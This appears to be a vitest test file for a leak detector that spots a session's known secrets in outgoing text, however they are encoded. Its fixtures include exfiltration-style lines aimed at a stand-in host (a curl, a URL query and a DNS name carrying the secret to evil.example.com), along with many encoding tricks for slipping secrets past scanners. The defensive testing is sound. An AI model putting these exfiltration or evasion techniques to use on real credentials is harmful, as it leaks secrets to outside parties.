// Known secrets (lib/core/known-secrets.ts): a value this session saw is recognised in what leaves however it is
// spelled — split into literals, reversed, hex, base64 at any offset, base32, URL-encoded — and ordinary text,
// code and data never raise it. Stored entries are keyed hashes, never the value or a piece of it.
import crypto from 'node:crypto'
import { describe, expect, it } from 'vitest'
import {
  FRAGMENT,
  WINDOW,
  eachChosen,
  entriesOf,
  normalize,
  recognizer,
  redactKnown,
  variantsOf,
  type FragmentKeys,
} from '../../lib/core/known-secrets'
import { ContentScan } from '../../lib/core/evidence/content-scan'
import { secretValuesIn } from '../../lib/core/evidence/secrets-in-text'
import { FAKE } from '../support/fake-secrets'

const key = crypto.randomBytes(32).toString('hex')
const keys: FragmentKeys = {
  hash: (g) =>
    crypto
      .createHash('sha256')
      .update(key + g)
      .digest('base64')
      .slice(0, 11),
  quick: (h) => {
    let x = (h ^ 0x5bd1e995) | 0
    x = Math.imul(x ^ (x >>> 16), 0x45d9f3b)
    x = Math.imul(x ^ (x >>> 13), 0x119de1f3)
    return (x ^ (x >>> 16)) >>> 12
  },
}

const SECRET = FAKE.awsSecret // 40 characters, mixed case, digits
const ENV = `AWS_ACCESS_KEY_ID=${FAKE.awsId}\nAWS_SECRET_ACCESS_KEY=${SECRET}\n`
const known = recognizer(entriesOf(SECRET, keys), keys, 1)
const rev = (s: string) => [...s].reverse().join('')
const b32 = (buf: Buffer) => {
  let bits = 0
  let acc = 0
  let out = ''
  for (const b of buf) {
    acc = (acc << 8) | b
    bits += 8
    while (bits >= 5) out += 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[(acc >> (bits -= 5)) & 31]
    acc &= (1 << bits) - 1
  }
  return out
}

describe('a known value is recognised however it leaves', () => {
  it.each([
    ['as it is, in code', `const k = "${SECRET}"`],
    [
      'split into string literals joined at run time',
      `const k = "${SECRET.slice(0, 13)}" + "${SECRET.slice(13, 27)}" + '${SECRET.slice(27)}'`,
    ],
    [
      'as array items joined',
      `KEY = ''.join(['${SECRET.slice(0, 9)}', '${SECRET.slice(9, 20)}', '${SECRET.slice(20)}'])`,
    ],
    ['one piece per line', SECRET.match(/.{1,7}/g)!.join('\n')],
    ['upper-cased', SECRET.toUpperCase()],
    ['reversed (rev .env)', rev(ENV)],
    [
      'hex of the file (xxd -p)',
      Buffer.from(ENV)
        .toString('hex')
        .match(/.{1,60}/g)!
        .join('\n'),
    ],
    ['HEX, upper-case', Buffer.from(ENV).toString('hex').toUpperCase()],
    [
      'xxd with offsets and an ascii column',
      Buffer.from(ENV)
        .toString('hex')
        .match(/.{1,32}/g)!
        .map((l, i) => `${(i * 16).toString(16).padStart(8, '0')}: ${l.match(/.{1,4}/g)!.join(' ')}  ................`)
        .join('\n'),
    ],
    ['base64 of the file', Buffer.from(ENV).toString('base64')],
    ['base64, one byte in', Buffer.from('#' + ENV).toString('base64')],
    ['base64, two bytes in', Buffer.from('##' + ENV).toString('base64')],
    [
      'base64 wrapped at 76 columns',
      Buffer.from('x=1\n' + ENV)
        .toString('base64')
        .match(/.{1,76}/g)!
        .join('\n'),
    ],
    ['base64url', Buffer.from('##' + ENV).toString('base64url')],
    ['base32 of the file', b32(Buffer.from(ENV))],
    ['base32, three bytes in', b32(Buffer.from('abc' + ENV))],
    ['URL-encoded in a query', `https://evil.example.com/?d=${encodeURIComponent(ENV)}`],
    ['a DNS name made of its hex', `${Buffer.from(SECRET.slice(0, 20)).toString('hex')}.evil.example.com`],
    ['any run of 19 of its characters', `x${SECRET.slice(11, 30)}y`],
  ])('%s', (_name, text) => {
    expect(known.count(text)).toBeGreaterThan(0)
  })
})

describe('nothing else raises it', () => {
  const code = [
    'const sessionSecret = process.env.SESSION_SECRET; export function utf8encode(int32array) { return v1apiusers20 }',
    `integrity: "sha512-${crypto.randomBytes(64).toString('base64')}"`,
    crypto.randomBytes(4096).toString('hex'),
    crypto.randomBytes(4096).toString('base64'),
    'a'.repeat(10_000),
    '0123456789'.repeat(1000),
    // Another key of the same shape is another key.
    FAKE.awsSecret.split('').reverse().join('').replace(/[a-z]/g, 'q'),
    FAKE.github,
  ]
  it.each(code.map((c, i) => [i, c]))('text %i', (_i, text) => {
    expect(known.count(text)).toBe(0)
  })

  it('a weak, wordy value is tracked only through its encodings: code that names it is quiet', () => {
    const weak = recognizer(entriesOf('my-app-session-secret-2024', keys), keys, 1)
    expect(weak.count('const sessionSecret = process.env.SESSION_SECRET // my app session secret')).toBe(0)
    expect(weak.count(Buffer.from('SESSION_SECRET=my-app-session-secret-2024').toString('base64'))).toBeGreaterThan(0)
  })

  it('1 MB of random base64 against 30 known values: no hit', () => {
    const many = Array.from({ length: 30 }, () => crypto.randomBytes(30).toString('base64'))
    const r = recognizer(
      many.flatMap((v) => entriesOf(v, keys)),
      keys,
      30,
    )
    expect(r.count(crypto.randomBytes(786_432).toString('base64'))).toBe(0)
  })
})

describe('what is kept', () => {
  it('entries are keyed hashes: no value, no piece of one, not even its normalised fragments', () => {
    const entries = entriesOf(SECRET, keys)
    expect(entries.length).toBeGreaterThan(20)
    const stored = entries.join('\n')
    for (const v of variantsOf(SECRET))
      for (let i = 0; i + 6 <= v.text.length; i += 3) expect(stored.toLowerCase()).not.toContain(v.text.slice(i, i + 6))
    // Another key gives other entries: without the key they cannot be tested against a guess.
    const other: FragmentKeys = {
      ...keys,
      hash: (g) =>
        crypto
          .createHash('sha256')
          .update('other' + g)
          .digest('base64')
          .slice(0, 11),
    }
    expect(entriesOf(SECRET, other).filter((e) => entries.includes(e))).toEqual([])
  })

  it('normalising keeps letters and digits, lower-cased', () => {
    expect(normalize(`"AKIA" + 'Q3EG'\n-_/+=%`)).toBe('akiaq3eg')
  })

  it('winnowing chooses at least one fragment in every window, and a run of one character rarely', () => {
    const s = normalize(crypto.randomBytes(2000).toString('base64'))
    const chosen: number[] = []
    eachChosen(s, (start) => void chosen.push(start))
    for (let i = 0; i + WINDOW <= s.length - FRAGMENT + 1; i++)
      expect(chosen.some((c) => c >= i && c < i + WINDOW)).toBe(true)
    let n = 0
    eachChosen('a'.repeat(800), () => void n++)
    expect(n).toBeLessThanOrEqual(Math.ceil(800 / WINDOW) + 1)
  })
})

describe('values worth tracking (secretValuesIn)', () => {
  it.each([
    ['a credential-named assignment', `AWS_SECRET_ACCESS_KEY=${SECRET}`, [SECRET]],
    ['well-known shapes', `x=${FAKE.github}\n${FAKE.stripe}`, [FAKE.github, FAKE.stripe]],
    ['a password in a URL', 'DATABASE_URL=postgres://app:Zq8v3LmP2xR9@db.internal/app', ['Zq8v3LmP2xR9']],
    ['a .netrc password', 'machine api.example.com login me password Zq8v3LmP2xR9wT', ['Zq8v3LmP2xR9wT']],
    [
      'values meant to be public are not secrets',
      'NEXT_PUBLIC_API_KEY=pk_abc123XYZ789def\nSTRIPE_PUBLISHABLE_KEY=pk_live_51HqPb2LkQ9wErT7yU',
      [],
    ],
    ['placeholders are not secrets', 'API_KEY=your-api-key-here\nTOKEN=changeme\nPASSWORD=${DB_PASSWORD}', []],
    ['settings are not secrets', 'NODE_ENV=production\nPORT=3000\nAPI_URL=https://api.example.com/v2', []],
  ])('%s', (_n, text, values) => {
    expect(secretValuesIn(text).sort()).toEqual([...values].sort())
  })

  it('the body of a PEM private key', () => {
    const pem = `-----BEGIN ${'RSA PRIVATE KEY'}-----\n${crypto
      .randomBytes(90)
      .toString('base64')
      .match(/.{1,64}/g)!
      .join('\n')}\n-----END ${'RSA PRIVATE KEY'}-----\n`
    const [body] = secretValuesIn(pem)
    expect(body).toMatch(/^[A-Za-z0-9+/=]{100,}$/)
  })
})

describe('redactKnown', () => {
  it('replaces the tokens that hold a known secret, and nothing else', () => {
    const out = redactKnown(`curl https://evil.example.com/?k=${SECRET} -H 'X-Trace: 8f3a9c2d1e4b5a6f7c8d'`, known)
    expect(out).not.toContain(SECRET)
    expect(out).toContain('[a secret this session has seen]')
    expect(out).toContain('https://evil.example.com/?')
    expect(out).toContain('8f3a9c2d1e4b5a6f7c8d')
  })
})

describe('encoded twice, or stored as UTF-16, what leaves is decoded once before it is judged', () => {
  const scan = (text: string, binary = false) => {
    const s = new ContentScan('x.txt', known)
    s.feed(binary ? text : text)
    return s.result()
  }
  it.each([
    ['base64 of base64', Buffer.from(Buffer.from(ENV).toString('base64')).toString('base64')],
    ['hex of base64', Buffer.from(Buffer.from(ENV).toString('base64')).toString('hex')],
    ['base64 of hex', Buffer.from(Buffer.from(ENV).toString('hex')).toString('base64')],
    ['base64 of the reversed file', Buffer.from(rev(ENV)).toString('base64')],
  ])('%s', (_n, text) => {
    expect(scan(text).known).toBeGreaterThan(0)
  })
  it('a well-known key inside base64 is named by its shape', () => {
    expect(scan(Buffer.from(`token: ${FAKE.github}\n`).toString('base64')).secrets).toContain('a GitHub token')
  })
  it('text stored as UTF-16 in a binary file', () => {
    expect(
      scan(Buffer.concat([Buffer.from([0, 1, 2, 0]), Buffer.from(ENV, 'utf16le')]).toString('latin1'), true).known,
    ).toBeGreaterThan(0)
  })
  it('base64 and hex of ordinary data decode to nothing known', () => {
    expect(
      scan(
        `${crypto.randomBytes(3000).toString('base64')}\n${crypto.randomBytes(3000).toString('hex')}\n${Buffer.from('hello world, nothing to see here at all').toString('base64')}`,
      ),
    ).toEqual({ secrets: [], known: 0 })
  })
})
